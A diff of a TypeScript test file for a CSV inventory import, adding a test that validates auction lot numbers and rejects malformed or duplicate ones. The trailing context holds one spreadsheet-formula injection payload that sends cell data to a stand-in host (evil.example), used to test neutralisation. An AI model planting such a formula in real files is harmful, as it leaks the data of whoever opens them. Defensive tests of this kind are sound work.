@@ -272,6 +272,34 @@ describe('running an import', () => {
     expect(done.rejected[0]?.reason).toMatch(/is also on row 1/);
   });
 
+  it("keeps the house's lot numbers from a 'Lot #' column, refusing a bad one and a second row with the same", async () => {
+    const p = tag();
+    const file = [
+      'Lot #,Title,Start',
+      `12,${p} anchor,10`,
+      `12a,${p} chain,10`,
+      `12-B,${p} rope,10`,
+      `12A,${p} buoy,10`,
+      `,${p} oars,10`,
+    ].join('\n');
+    const done = await uploadConfirmRun(t, staff, 'lots.csv', file);
+    expect(done.mapping).toMatchObject({ lot_number: 0, title: 1 });
+    expect(done).toMatchObject({ created_count: 3, skipped_count: 2 });
+    expect(done.rejected.map((row) => [row.row, row.reason])).toEqual([
+      [3, 'Lot number "12-B" must be digits with up to two letters, e.g. 12 or 12A'],
+      [4, 'Lot 12A is also on row 2; one row per lot number'],
+    ]);
+    const numbers = await rowsOf<{ title: string; lot_number: string | null }>(
+      t.db,
+      sql`select title, lot_number from inventory_items where title like ${`${p} %`} order by title`,
+    );
+    expect(numbers).toEqual([
+      { title: `${p} anchor`, lot_number: '12' },
+      { title: `${p} chain`, lot_number: '12A' },
+      { title: `${p} oars`, lot_number: null },
+    ]);
+  });
+
   it('stores a formula as text and neutralises it in the rejected rows CSV', async () => {
     const p = tag();
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
